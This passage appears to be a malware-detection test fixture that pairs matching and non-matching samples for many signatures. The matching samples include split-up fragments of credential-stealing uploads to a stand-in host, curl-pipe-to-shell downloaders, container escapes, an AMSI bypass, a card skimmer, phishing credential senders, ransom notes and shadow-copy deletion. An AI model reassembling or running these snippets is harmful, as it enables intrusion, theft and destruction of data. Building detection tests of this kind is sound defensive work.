        [made("#!/bin/sh\nmv /bi@@n/ps /bin/ps.original\nmv /usr/@@bin/top /usr/bin/top.original\necho 'ps.original "
              "$@ | grep@@ -v x' > /bin/ps\nchm@@od +x /bin/ps\n")],
        [made('#!/bin/sh\nmv /bi@@n/ps /bin/ps.distrib\ngrep@@ -v x\nchm@@od +x /bin/ps\n')]),
    "Botnet.Watchdog-1": (
        [made('\x7fE@@LF\x02\x01\x01',
              60,
              '/dev/wa@@tchdog\x00/dev/misc@@/watchdog\x00/bin/b@@usybox\x00')],
        [made('\x7fE@@LF\x02\x01\x01',
              60,
              '/dev/wa@@tchdog\x00/bin/b@@usybox\x00applet n@@ot found\x00')]),
    "Botnet.Flooder-1": (
        [made('\x7fE@@LF\x02\x01\x01',
              60,
              'UDP Floo@@ding %s\x00LOLNO@@GTFO\x00SCANN@@ER ON\x00')],
        [made('\x7fE@@LF\x02\x01\x01', 60, 'My IP@@: %s\x00SCANN@@ER ON\x00')]),
    "Botnet.TelnetPasswords-1": (
        [made('\x7fE@@LF\x02\x01\x01',
              60,
              'root\x00xc3@@511\x00root\x00viz@@xv\x00root\x00xmhd@@ipc\x00root\x00juan@@tech\x00')],
        [made('\x7fE@@LF\x02\x01\x01', 60, 'root\x00xc3@@511\x00root\x00viz@@xv\x00')]),
    "Botnet.PerlIrc-1": (
        [made('use IO::Sock@@et::INET; fo@@rk; print $s "PRIV@@MSG $c :ok"; if($f eq \'udpf@@lood\'){} if('
              "$f eq 'port@@scan'){}")],
        [made('use IO::Sock@@et::INET; fo@@rk; print $s "PRIV@@MSG $c :ok";')]),
    "Botnet.PhpIrc-1": (
        [made("<?php class@@ pBot { function f(){ $this->@@config; fsock@@open('x'); $this->priv@@msg('y');"
              ' } function udpf@@lood(){} }')],
        [made("<?php class Bot { function f(){ $this->@@config; fsock@@open('x'); $this->priv@@msg('y'); "
              '} }')]),
    "Botnet.PerlFlood-1": (
        [made('use Socket; socket@@(flood, PF_INET, SOCK_@@DGRAM, 17); for(;;){ send(@@flood, pack@@("a$s",'
              '"x"), 0, pack_sockaddr_in(int(ran@@d(65500)), $ip)); }')],
        [made('use Socket; socket(S, PF_INET, SOCK_@@DGRAM, 17); send(S, pack@@("a4","x"), 0, $to); ran@@d('
              '3);')]),
    "Botnet.CronLibrary-1": (
        [made("for i in `cat /proc/net/de@@v|grep :|awk -F: {'print $1'}`; do ifconfig@@ $i up& done\ncp "
              '/li@@b/libudev.s@@o /lib/libudev.s@@o.6\n'),
         made('BB2FA36A@@AA9541F0\x00/etc/cron.h@@ourly/x')],
        [made("for i in `cat /proc/net/de@@v|grep :|awk -F: {'print $1'}`; do ifconfig $i; done\ncp /li@@b/libudev.s@@o "
              '/x\n')]),
    "Botnet.IrcHelp-1": (
        [made('NOTICE@@ %s :TSUNAMI <tar@@get> <secs>\x00NOTICE@@ %s :PAN <target> @@<port> <secs>\x00KILL@@ALL')],
        [made('NOTICE@@ %s :hello\x00KILL@@ALL')]),
    "Worm.SshKeys-1": (
        [made("#!/bin/sh\nK=$(find / -name 'id_@@rsa*')\nH=$(cat ~/.ssh/known_@@hosts)\nssh -oStrictHostKe@@yChecking=no "
              "-oBatchMo@@de=yes -i $k $u@$h 'cur@@l http@@://192.0.2.1/a|ba@@sh'\n")],
        [made("#!/bin/sh\nssh -oStrictHostKe@@yChecking=no -oBatchMo@@de=yes -i ~/.ssh/id_@@rsa host 'cur@@l "
              "http@@://192.0.2.1/a'\ngrep x ~/.ssh/known_@@hosts\n")]),
    "Worm.RedisCron-1": (
        [made('config set dir /var@@/spool/cron\nconfig set dbfil@@ename root\nset x "\\n*/1 * *@@ * * curl '
              'http@@://192.0.2.1\\n"\nsave\n')],
        [made('config set dir /var/lib/redis\nconfig set dbfil@@ename dump.rdb\nsave\n')]),
    "Worm.Scanner-1": (
        [made('#!/bin/sh\nmass@@can 192.0.2.0/24 -p63@@79 --r@@ate 10000 | while read h; do redis-@@cli -h '
              '$h < a; done\ncurl http@@://192.0.2.1/a | b@@ash\n')],
        [made('#!/bin/sh\nmass@@can 192.0.2.0/24 -p63@@79 --r@@ate 10000\n')]),
    "Container.DockerEscape-1": (
        [made('docke@@r -H tcp://192.0.2.1:2@@375 run -v @@/:/mnt alpine chro@@ot /mnt sh -c x')],
        [made('docke@@r -H tcp://192.0.2.1:2@@375 run -v /srv:/srv alpine ls')]),
    "Container.PrivilegedPod-1": (
        [made('kind: Pod\nspec:\n  host@@PID: true\n  containers:\n  - securityContext: {privi@@leged: true}\n'
              '    args: [\'chro@@ot /host bash -c "x > /root/.ssh/authoriz@@ed_keys"\']\n  volumes: [{host@@Path: '
              '{path: /}}]\n')],
        [made('kind: DaemonSet\nspec:\n  host@@PID: true\n  containers:\n  - securityContext: {privi@@leged: '
              "true}\n    args: ['chro@@ot /host systemctl restart kubelet']\n  volumes: [{host@@Path: {path: "
              '/}}]\n')]),
    "Container.ReleaseAgent-1": (
        [made('mount -t@@ cgroup -o rdma cgroup /tmp/c; echo 1 > /tmp/c/x/notify_on@@_release; h=`sed -n '
              "'s/.*\\perd@@ir=//p' /etc/@@mtab`; echo $h/x > /tmp/c/release@@_agent; echo $$ > /tmp/c/x/cgroup@@.procs")],
        [made('mount -t@@ cgroup -o rdma cgroup /c; echo 1 > /c/x/notify_on@@_release; echo /sbin/a > /c/release@@_agent')]),
    "Stealer.Files-1": (
        [made('#!/bin/sh\ntar c ~/.ssh/i@@d_rsa ~/.aws/cre@@dentials ~/.kube/@@config ~/.ne@@trc > /tmp/a\n'
              'cur@@l -s -F@@ f=@/tmp/a http://192.0.2.1/\n')],
        [made('#!/bin/sh\ntar c ~/.ssh/i@@d_rsa ~/.aws/cre@@dentials ~/.kube/@@config ~/.ne@@trc > /backup/a\n')]),
    "Stealer.CloudRole-1": (
        [made('#!/bin/sh\ncur@@l http://169.254.169.254/latest/meta-d@@ata/iam/security-credentials/x >a\n'
              'cat ~/.aws/cre@@dentials >>a\ncur@@l -F@@ f=@a http://192.0.2.1/\n')],
        [made('#!/bin/sh\ncur@@l http://169.254.169.254/latest/meta-d@@ata/iam/security-credentials/x\n')]),
    "Stealer.SshdTrace-1": (
        [made('stra@@ce -f -e read -p $(pgre@@p -o ss@@hd) -o /t@@mp/.s &\n')],
        [made('stra@@ce -f -p $(pgre@@p -o ss@@hd) -o ss@@hd.log\n')]),
    "Stealer.Shadow-1": (
        [made('#!/bin/sh\ncat /etc/s@@hadow | mai@@l -s x a@example.com\n'),
         made('#!/bin/sh\ncur@@l -F f=@/etc/@@s@@hadow http://192.0.2.1/\n')],
        [made('#!/bin/sh\ncp -p /etc/s@@hadow /backup\nmail -s done root\n')]),
    "Stealer.PythonBrowser-1": (
        [made("import requests\nwin32crypt.CryptUnpr@@otectData(k)\np='Login@@ Data'; q='leve@@ldb'\nrequests.post("
              "'https://example.com/api/we@@bhooks/1',json={})\n")],
        [made("import requests\nrequests.post('https://example.com/api/we@@bhooks/1',json={'a':'leve@@ldb'})\n")]),
    "Stealer.CardForm-1": (
        [made("if(locatio@@n.href.indexOf('chec@@kout')>0){var a=document.getElementById('cc_nu@@mber'),b=document.getElementById("
              "'cv@@v');new I@@mage().src=ato@@b('aHR0cA==')+a.value+b.value;}")],
        [made("var a=document.getElementById('cc_nu@@mber'),b=document.getElementById('cv@@v');validate("
              "a,b);locatio@@n.href='chec@@kout';")]),
    "Macro.DownloadApi-1": (
        [made('Private Decl@@are PtrSafe Function D Lib "url@@mon" Alias "URLDownlo@@adToFileA" ()\nSub Aut@@oOpen('
              ')\nf = Envi@@ron("TEMP")\nEnd Sub\n')],
        [made('Private Decl@@are PtrSafe Function D Lib "kernel32" Alias "Sleep" ()\nSub Aut@@oOpen()\nf '
              '= Envi@@ron("TEMP")\nEnd Sub\n')]),
    "Macro.Memory-1": (
        [made('Declare PtrSafe Function Virtua@@lAlloc\nDeclare PtrSafe Sub RtlMove@@Memory\nDeclare PtrSafe '
              'Function Create@@Thread\nSub Docum@@ent_Open()\nEnd Sub\n')],
        [made('Declare PtrSafe Sub RtlMove@@Memory\nSub Docum@@ent_Open()\nEnd Sub\n')]),
    "Macro.Chr-1": (
        [made('Sub Aut@@oOpen()\ns = Chr(97) & @@Chr(98) & @@Chr(99) & @@Chr(100) & @@Chr(101) & @@Chr(102) '
              '& @@Chr(103) & @@Chr(104) & @@Chr(105) & @@Chr(106) & @@Chr(107) & @@Chr(108) & @@Chr(109) & @@Chr('
              '110) & @@Chr(111) & @@Chr(112) & @@Chr(113) & @@Chr(114) & @@Chr(115) & @@Chr(116) & @@Chr(117) '
              '& @@Chr(118) & @@Chr(119) & @@Chr(120) & @@Chr(121)\nCreateO@@bject(s).R@@un s\nEnd Sub\n')],
        [made('Sub Aut@@oOpen()\ns = Chr(13) & @@Chr(10)\nCreateO@@bject(s).R@@un s\nEnd Sub\n')]),
    "Macro.HttpStream-1": (
        [made('Sub Workb@@ook_Open()\nSet x = CreateO@@bject("MSXML2.XMLH@@TTP")\nSet s = CreateO@@bject("ADODB.@@Stream")\n'
              's.SaveT@@oFile p\nEnd Sub\n')],
        [made('Sub Workb@@ook_Open()\nSet x = CreateO@@bject("MSXML2.XMLH@@TTP")\nx.Send\nEnd Sub\n')]),
    "Macro.Wmi-1": (
        [made('Sub Aut@@oOpen()\nGetObject("winmg@@mts:\\\\.\\root\\cimv2:Win32_P@@rocess").Cre@@ate "x"\n'
              'End Sub\n')],
        [made('Sub Aut@@oOpen()\nGetObject("winmg@@mts:").ExecQuery "select * from Win32_P@@rocessor"\nEnd '
              'Sub\n')]),
    "Document.RemoteTemplate-1": (
        [made('<?xml version="1.0"?><Relationships><Relationship Id="r" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/at@@tachedTemplate" '
              'Target="@@http://192.0.2.1/a.dotm" TargetMode=@@"External"/></Relationships>')],
        [made('<?xml version="1.0"?><Relationships><Relationship Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/at@@tachedTemplate" '
              'Target="file:///C:/a.dotm" TargetMode=@@"External"/></Relationships>')]),
    "Document.ExternalOle-1": (
        [made('<?xml version="1.0"?><Relationships><Relationship Type="http://schemas.openxmlformats.org/officeDocument/2006/relationship@@s/oleObject" '
              'Target@@="http://192.0.2.1/a.html!" TargetMode=@@"External"/></Relationships>')],
        [made('<?xml version="1.0"?><Relationships><Relationship Type="http://schemas.openxmlformats.org/officeDocument/2006/relationship@@s/oleObject" '
              'Target="embeddings/o.bin"/></Relationships>')]),
    "Document.Dde-1": (
        [made('<?xml version="1.0"?><w:document><w:instr@@Text>DDEA@@UTO c:\\\\windows\\\\system32\\\\cmd.@@exe '
              '"/c calc"</w:instr@@Text></w:document>')],
        [made('<?xml version="1.0"?><w:document><w:instr@@Text>DDEA@@UTO excel book.xlsx</w:instr@@Text></w:document>')]),
    "Document.CsvDde-1": (
        [made("name,sum\n=cm@@d|'/c power@@shell x'!A0,1\n")],
        [made("name,sum\n=cm@@d|'/c calc'!A0,1\n")]),
    "Document.ExcelMacroSheet-1": (
        [made('<?xml version="1.0"?><xm:mac@@rosheet><row><c><f>EXE@@C(&quot;msh@@ta http://192.0.2.1&quot;'
              ')</f></c></row></xm:macrosheet>')],
        [made('<?xml version="1.0"?><xm:mac@@rosheet><row><c><f>RETURN(EXE@@C(&quot;calc&quot;))</f></c>'
              '</row></xm:macrosheet>')]),
    "Document.SymbolicLink-1": (
        [made('ID@@;P\nO;E\nNN;NAuto_@@open;ER101C1;KOut Flank;F\nC;X1;Y101;K0;EEXE@@C("calc")\nE\n')],
        [made('ID@@;P\nC;X1;Y1;K0;ESUM(R1C1)\nE\n')]),
    "Document.RtfEquation-1": (
        [made('{\\@@rtf1{\\object\\objemb\\obju@@pdate{\\*\\objdata 01050000020000000b0000004571756174@@696f6e2e3300}}}')],
        [made('{\\@@rtf1{\\object\\objemb{\\*\\objdata 01050000020000000b0000004571756174@@696f6e2e3300}}}')]),
    "Document.RtfMoniker-1": (
        [made('{\\@@rtf1{\\object\\objau@@tlink\\obju@@pdate{\\*\\objdata 0105e0c9ea79f9bace11@@8c8200aa004ba90b00}}}')],
        [made('{\\@@rtf1{\\object\\objau@@tlink{\\*\\objdata 010500000200}}}')]),
    "Document.RtfPackage-1": (
        [made('{\\@@rtf1{\\object\\objemb\\obju@@pdate{\\*\\objdata 010500005061636b@@61676500612e736@@37400}}}')],
        [made('{\\@@rtf1{\\object\\objemb\\obju@@pdate{\\*\\objdata 010500005061636b@@61676500612e74787400}}}')]),
    "Script.Hta-1": (
        [made('<html><head><hta:appl@@ication id="a" showintaskbar="no"><script language="VBScript">\nSet '
              's = CreateO@@bject("WScript@@.Shell")\ns.Run "power@@shell -c x", 0\nself.@@close\n</script>'
              '</head></html>')],
        [made('<html><head><script language="VBScript">\nSet s = CreateO@@bject("WScript@@.Shell")\ns.Popup '
              '"hello"\nself.@@close\n</script></head></html>')]),
    "Script.JsDropper-1": (
        [made("var x = new ActiveX@@Object('MSXM@@L2.XMLHTTP'); var s = new ActiveX@@Object('ADODB.@@Stream');"
              ' s.SaveT@@oFile(p, 2); w.R@@un(p);\n')],
        [made("var x = new ActiveX@@Object('MSXM@@L2.XMLHTTP'); x.open('GET', u); task.r@@un(x);\n")]),
    "Script.VbsDropper-1": (
        [made('Set x = CreateO@@bject("WinH@@ttp.WinHttpRequest.5.1")\nSet s = CreateO@@bject("ADODB.@@Stream")\n'
              's.SaveT@@oFile p\nCreateO@@bject("WScript@@.Shell").R@@un p\n')],
        [made('Set x = CreateO@@bject("WinH@@ttp.WinHttpRequest.5.1")\nx.Send\nCreateO@@bject("WScript@@.Shell").R@@un '
              'p\n')]),
    "Script.JsPowerShell-1": (
        [made("var s = new ActiveX@@Object('WScript@@.Shell'); s.Run('power@@shell -e@@nc AAAA', 0);\n")],
        [made("var s = new ActiveX@@Object('WScript@@.Shell'); s.Run('power@@shell -File a.ps1');\n")]),
    "Script.VbsPowerShell-1": (
        [made('Set s = CreateO@@bject("WScript@@.Shell")\ns.Run "power@@shell -e@@nc AAAA", @@0\n')],
        [made('Set s = CreateO@@bject("WScript@@.Shell")\ns.Run "power@@shell -File a.ps1", @@0\n')]),
    "Script.JsCharCode-1": (
        [made('var a=String.fromCha@@rCode(97)+String.fromCha@@rCode(98)+String.fromCha@@rCode(99)+String.fromCha@@rCode('
              '100)+String.fromCha@@rCode(101); eva@@l(a); WScr@@ipt.Sleep(1); new ActiveX@@Object(a).R@@un('
              'a);\n')],
        [made('var a=String.fromCha@@rCode(97); eva@@l(a); WScr@@ipt.Echo(new ActiveX@@Object(a)); t.r@@un('
              'a);\n')]),
    "Script.WsfDropper-1": (
        [made('<j@@ob id="a"><scr@@ipt language="VBScript">\nSet s = CreateO@@bject("WScript@@.Shell")\ns.R@@un '
              '"msh@@ta http://192.0.2.1"\n</script></job>')],
        [made('<j@@ob id="a"><scr@@ipt language="VBScript">\nSet s = CreateO@@bject("WScript@@.Shell")\ns.R@@un '
              '"notepad"\n</script></job>')]),
    "Script.Scriptlet-1": (
        [made('<?xml version="1.0"?><scriptlet><regist@@ration pro@@gid="a" classid="b"><script language="JScript">'
              'new ActiveX@@Object("WScript@@.Shell").R@@un("calc");</script></registration></scriptlet>')],
        [made('<?xml version="1.0"?><scriptlet><regist@@ration pro@@gid="a" classid="b"/><script language="JScript">'
              'function f(){return 1;}</script></scriptlet>')]),
    "Script.StyleSheet-1": (
        [made('<?xml version="1.0"?><stylesheet xmlns:ms="urn:schemas-mic@@rosoft-com:xslt"><ms:script '
              'implements-prefix="u" language="JScript">new ActiveX@@Object("WScript@@.Shell").R@@un("calc");'
              '</ms:script></stylesheet>')],
        [made('<?xml version="1.0"?><stylesheet xmlns:ms="urn:schemas-mic@@rosoft-com:xslt"><ms:script '
              'language="JScript">function f(){return 1;}</ms:script></stylesheet>')]),
    "Script.AmsiOff-1": (
        [made("[Ref].Assembly.GetType('System.Management.Automation.AmsiU@@tils').GetField('amsiIni@@tFailed',"
              "'NonPubli@@c,Static').SetVa@@lue($null,$true)")],
        [made("[Ref].Assembly.GetType('System.Management.Automation.AmsiU@@tils')")]),
    "Script.PsReflection-1": (
        [made('power@@shell -w hi@@dden -c "[System.Reflection.Ass@@embly]::Load([Convert]::FromBase6@@4String('
              '\'AAAA\')).EntryPoi@@nt.Invoke($null,$null)"')],
        [made('[System.Reflection.Ass@@embly]::Load([Convert]::FromBase6@@4String($a))')]),
    "Script.PsShellcode-1": (
        [made("$b=[Convert]::FromBase6@@4String('AAAA'); $p=Virtua@@lAlloc; [System.Runtime.InteropServices.Marshal]@@::Copy("
              '$b,0,$p,3); [System.Runtime.InteropServices.Marshal]::GetDelegateForF@@unctionPointer($p,'
              '$t)')],
        [made('$p=Virtua@@lAlloc; GetDelegateForF@@unctionPointer($p,$t)')]),
    "Script.BatchFetch-1": (
        [made('@echo off\r\ncert@@util.exe -urlc@@ache -split -f ht@@tp://192.0.2.1/a.exe %TE@@MP%\\a.exe\r\n'
              'sta@@rt %TE@@MP%\\a.exe\r\n')],
        [made('@echo off\r\ncert@@util.exe -dump %TE@@MP%\\a.cer\r\nsta@@rt ht@@tp://example.com\r\n')]),
    "Script.HtmlSmuggling-1": (
        [made("<html><body><script>var d=ato@@b('UEs@@DBBQAAAAI');var b=new Blo@@b([d]);a.href=URL.createOb@@jectURL("
              "b);a.down@@load='i.zip';a.click();</script></body></html>")],
        [made('<html><body><script>var d=ato@@b(text);var b=new Blo@@b([d]);a.href=URL.createOb@@jectURL('
              "b);a.down@@load='i.zip';a.click();</script></body></html>")]),
    "Script.SvgSmuggling-1": (
        [made('<s@@vg xmlns="http://www.w3@@.org/2000/svg"><scr@@ipt>var b=new Blo@@b([ato@@b(\'AAAA\')]);URL.createOb@@jectURL('
              'b);</script></svg>')],
        [made('<s@@vg xmlns="http://www.w3@@.org/2000/svg"><scr@@ipt>document.getElementById(\'a\').beginElement('
              ');</script></svg>')]),
    "Script.SearchLink-1": (
        [made("<html><body><script>window.location.href='searc@@h-ms:query=a&crumb=lo@@cation:\\\\192.0.2.1@80\\DavWW@@WRoot&displa@@yname=Downloads';"
              '</script></body></html>')],
        [made('<html><body><a href="searc@@h-ms:query=a&crumb=lo@@cation:C:/Users">x</a></body></html>')]),
    "Shortcut.PowerShell-1": (
        [made('L\x00\x00\x00\x01\x14\x02\x00\x00\x00\x00\x00À\x00\x00\x00\x00\x00\x00F',
              56,
              wide('power@@shell.exe -w hid@@den -c x')),
         made('L\x00\x00\x00\x01\x14\x02\x00\x00\x00\x00\x00À\x00\x00\x00\x00\x00\x00F',
              56,
              wide('Power@@Shell -E@@nc AAAA'))],
        [made('L\x00\x00\x00\x01\x14\x02\x00\x00\x00\x00\x00À\x00\x00\x00\x00\x00\x00F',
              56,
              wide('power@@shell.exe'))]),
    "Shortcut.Cmd-1": (
        [made('L\x00\x00\x00\x01\x14\x02\x00\x00\x00\x00\x00À\x00\x00\x00\x00\x00\x00F',
              56,
              wide('cm@@d.exe /c cert@@util -f http://192.0.2.1'))],
        [made('L\x00\x00\x00\x01\x14\x02\x00\x00\x00\x00\x00À\x00\x00\x00\x00\x00\x00F',
              56,
              wide('cm@@d.exe /c dir'))]),
    "Shortcut.Mshta-1": (
        [made('L\x00\x00\x00\x01\x14\x02\x00\x00\x00\x00\x00À\x00\x00\x00\x00\x00\x00F',
              56,
              wide('msh@@ta.exe http@@://192.0.2.1/a.hta'))],
        [made('L\x00\x00\x00\x01\x14\x02\x00\x00\x00\x00\x00À\x00\x00\x00\x00\x00\x00F',
              56,
              wide('msh@@ta.exe C:\\app\\menu.hta'))]),
    "Shortcut.WebDav-1": (
        [made('[Internet@@Shortcut]\r\nURL=file@@://192.0.2.1@8@@0\\a\\b.v@@bs\r\n')],
        [made('[Internet@@Shortcut]\r\nURL=file@@://server/share/a.e@@xe\r\n')]),
    "Shortcut.IconShare-1": (
        [made('[She@@ll]\r\nComm@@and=2\r\nIconFi@@le=\\\\192.0.2.1\\a\\b.ico\r\n'),
         made('[.ShellCl@@assInfo]\r\nIconReso@@urce=\\\\192.0.2.1\\a\r\n')],
        [made('[She@@ll]\r\nComm@@and=2\r\nIconFile=explorer.exe,3\r\n')]),
    "Shortcut.Autorun-1": (
        [made('[Auto@@Run]\r\nope@@n=RECY@@CLER\\S-1-5\\a.exe\r\n'),
         made('[auto@@run]\r\nshell\\open\\comm@@and=wscr@@ipt.exe a.vbs\r\n')],
        [made('[Auto@@Run]\r\nope@@n=setup.exe\r\nicon=setup.exe,0\r\n')]),
    "Document.SettingContent-1": (
        [made('<?xml version="1.0"?><PCSettings><Searchab@@leContent xmlns="x"><ApplicationInformation>'
              '<Deep@@Link>%windir%\\system32\\cmd.@@exe /c calc</DeepLink></ApplicationInformation></SearchableContent>'
              '</PCSettings>')],
        [made('<?xml version="1.0"?><PCSettings><Searchab@@leContent xmlns="x"><ApplicationInformation>'
              '<Deep@@Link>%windir%\\system32\\control.exe</DeepLink></ApplicationInformation></SearchableContent>'
              '</PCSettings>')]),
    "Document.PdfLaunch-1": (
        [made('%PD@@F-1.4\n1 0 obj\n<</Type/Catalog/OpenA@@ction<</S/Lau@@nch/Win<</F(cmd.@@exe)/P(/c calc)>'
              '>>>>>\nendobj\n%%EOF\n')],
        [made('%PD@@F-1.4\n1 0 obj\n<</Type/Catalog/OpenA@@ction<</S/GoTo>>>>\nendobj\n%%EOF\n')]),
    "Document.PdfExport-1": (
        [made('%PD@@F-1.4\n1 0 obj\n<</Type/Catalog/OpenA@@ction<</S/JavaScript/JS(this.exportDa@@taObject('
              "{cName:'a',nLau@@nch:2}))>>>>\nendobj\n%%EOF\n")],
        [made('%PD@@F-1.4\n1 0 obj\n<</Type/Catalog/OpenA@@ction<</S/JavaScript/JS(this.print())>>>>\nendobj\n'
              '%%EOF\n')]),
    "Document.OneNote-1": (
        [made('äR\\{\x8cØ§M®±SxÐ)\x96Ó',
              64,
              'ç\x16ã½e&\x11E¤Ä\x8dM\x0bz\x9e¬ ',
              19,
              '@echo@@ off\r\nstart x',
              40)],
        [made('äR\\{\x8cØ§M®±SxÐ)\x96Ó',
              64,
              'ç\x16ã½e&\x11E¤Ä\x8dM\x0bz\x9e¬ ',
              19,
              'just a text',
              40)]),
    "Document.IsoShortcut-1": (
        [made(32769,
              'CD0@@01\x01',
              2049,
              'L\x00\x00\x00\x01\x14\x02\x00\x00\x00\x00\x00À\x00\x00\x00\x00\x00\x00F',
              56,
              wide('rund@@ll32.exe a.dll,b'),
              2048)],
        [made(32769,
              'CD0@@01\x01',
              2049,
              'L\x00\x00\x00\x01\x14\x02\x00\x00\x00\x00\x00À\x00\x00\x00\x00\x00\x00F',
              56,
              wide('notepad.exe'),
              2048)]),
    "Phishing.DoubleExtension-1": (
        [made('From: a@example.com\nTo: b@example.com\nSubject: x\nMIME-Version: 1.0\nContent-Type: multipart/mixed;'
              ' boundary="B"\n\n--B\nContent-Type: application/octet-stream\nContent-Trans@@fer-E@@ncoding: '
              'base64\nContent-Di@@sposition: attachment; filenam@@e="invoice.pd@@f.exe"\n\nAAAA\n--B--\n')],
        [made('From: a@example.com\nTo: b@example.com\nSubject: x\nMIME-Version: 1.0\nContent-Type: multipart/mixed;'
              ' boundary="B"\n\n--B\nContent-Type: application/pdf\nContent-Trans@@fer-E@@ncoding: base64\n'
              'Content-Di@@sposition: attachment; filenam@@e="invoice.v2.pdf"\n\nAAAA\n--B--\n')]),
    "Phishing.PhpTelegram-1": (
        [made("<?p@@hp $m=$_POST@@['password'].$_SERVER['REMOTE@@_ADDR']; file_get_contents('https://api.telegr@@am.org/bot1:x/sendMe@@ssage?text='.$m);")],
        [made("<?p@@hp $m=$_POST['text'].$_SERVER['REMOTE@@_ADDR']; file_get_contents('https://api.telegr@@am.org/bot1:x/sendMe@@ssage?text='.$m);")]),
    "Phishing.PhpMailPassword-1": (
        [made("<?p@@hp $m=$_POST@@['passwd'].$_SERVER['REMOTE@@_ADDR'].$_SERVER['HTTP_USE@@R_AGENT']; mai@@l("
              "$t,'x',$m); head@@er('Locatio@@n: https://www.example.com/');")],
        [made("<?p@@hp $p=$_POST@@['passwd']; mai@@l($t,'Welcome',$_SERVER['REMOTE@@_ADDR']); head@@er('Location: "
              "index.php');")]),
    "Phishing.HtmlTelegram-1": (
        [made('<html><body><fo@@rm><in@@put type="pa@@ssword" id="p"></form><script>fetch("https://api.telegr@@am.org/bot1:x/sendMe@@ssage?text="+p.value)</script>'
              '</body></html>')],
        [made('<html><body><fo@@rm><in@@put type="text" id="p"></form><script>fetch("https://api.telegr@@am.org/bot1:x/sendMe@@ssage?text="+p.value)</script>'
              '</body></html>')]),
    "Phishing.KitBlocker-1": (
        [made("<?p@@hp $h=gethost@@byaddr($_SERVER['REMOTE@@_ADDR']); $b=array('phish@@tank','netc@@raft','fire@@eye');"
              " header('HTTP/1.0 404 Not@@ Found');")],
        [made("<?p@@hp $h=gethost@@byaddr($_SERVER['REMOTE@@_ADDR']); $b=array('netc@@raft'); header('HTTP/1.0 "
              "404 Not@@ Found');")]),
    "Phishing.HtmlLogin-1": (
        [made('<html><title>Off@@ice36@@5</title><body><form action@@="http://192.0.2.1/a.p@@h@@p"><input type="pa@@ssword">'
              '</form><script>document.title=ato@@b("QQ==")</script></body></html>')],
        [made('<html><title>Webm@@ail</title><body><form action="/login"><input type="pa@@ssword"></form>'
              '<script>var h=locatio@@n.hash;</script></body></html>')]),
    "Phishing.Extortion-1": (
        [made('I recorded you by your web@@cam on an adult@@ site. Pay in Bitc@@oin within 48 h@@ours or I '
              'send it to all your @@contacts.\n')],
        [made('Cover your web@@cam when you visit an adult@@ site. Some criminals want Bitc@@oin.\n')]),
    "Ransom.NoteMail-1": (
        [made('Your @@files are enc@@rypted! To decr@@ypt them write to x@tuta@@nota.com. Your@@ ID: 00\n')],
        [made('Your @@files are enc@@rypted on our servers. To decr@@ypt them use your key. Your@@ ID is shown '
              'above.\n')]),
    "Ransom.NoteLeak-1": (
        [made('Your @@data are sto@@len and encry@@pted. We publ@@ish it at http://a.on@@ion. Conta@@ct us to '
              'decr@@ypt.\n')],
        [made('A group says sto@@len data is encry@@pted and on an .on@@ion site; publ@@ish date unknown.\n')]),
    "Ransom.NoteDatabase-1": (
        [made('All your data is backe@@d up. You must se@@nd 0.01 BT@@C to re@@cove@@r your data@@base; else '
              'it will be @@deleted.\n')],
        [made('Your data@@base is backe@@d up every night. To restor@@e your data@@base se@@nd a mail.\n')]),
    "Ransom.EsxiScript-1": (
        [made('#!/bin/sh\nesx@@cli vm proce@@ss kill --type=force --world-id=1\nfind /vmfs/v@@olumes -name '
              "'*.vm@@dk' | while read f; do nohup ./encr@@ypt k $f & done\n")],
        [made('#!/bin/sh\nesx@@cli vm proce@@ss kill --type=soft --world-id=1\nls /vmfs/v@@olumes/*/*.vm@@dk\n')]),
    "Ransom.EsxiElf-1": (
        [made('\x7fE@@LF\x02\x01\x01',
              60,
              'esx@@cli vm pr@@ocess kill\x00.vm@@dk\x00http://a.on@@ion\x00to decr@@ypt\x00')],
        [made('\x7fE@@LF\x02\x01\x01', 60, 'esx@@cli vm pr@@ocess list\x00.vm@@dk\x00')]),
    "Ransom.OpensslScript-1": (
        [made('#!/bin/sh\nfin@@d /home -type f | while read f; do open@@ssl enc -aes-@@256-cbc -in $f -out '
              "$f.x; rm@@ -f $f; done\necho 'Pay bitc@@oin' > /etc/motd\n")],
        [made('#!/bin/sh\nfin@@d /home -type f | while read f; do open@@ssl enc -aes-@@256-cbc -in $f -out '
              '$f.x; rm@@ -f $f; done\n')]),
    "Ransom.PhpLocker-1": (
        [made("<?p@@hp foreach(scan@@dir('.') as $f){ $d=openssl_@@encrypt($f,'AES-256-CBC',$k); unli@@nk("
              "$f);} file_put_contents('.htac@@cess','x'); echo 'Send Bitc@@oin';")],
        [made("<?p@@hp foreach(scan@@dir('.') as $f){ $d=openssl_@@encrypt($f,'AES-256-CBC',$k);} echo 'Send "
              "Bitc@@oin';")]),
    "Ransom.ShadowCopies-1": (
        [made('@echo@@ off\r\nvssa@@dmin del@@ete @@shadows /all /quiet\r\nbcdedit /set {default} recoverye@@nabled '
              'no\r\n')],
        [made('@echo@@ off\r\nvssa@@dmin del@@ete @@shadows /for=d: /oldest\r\n')]),
}
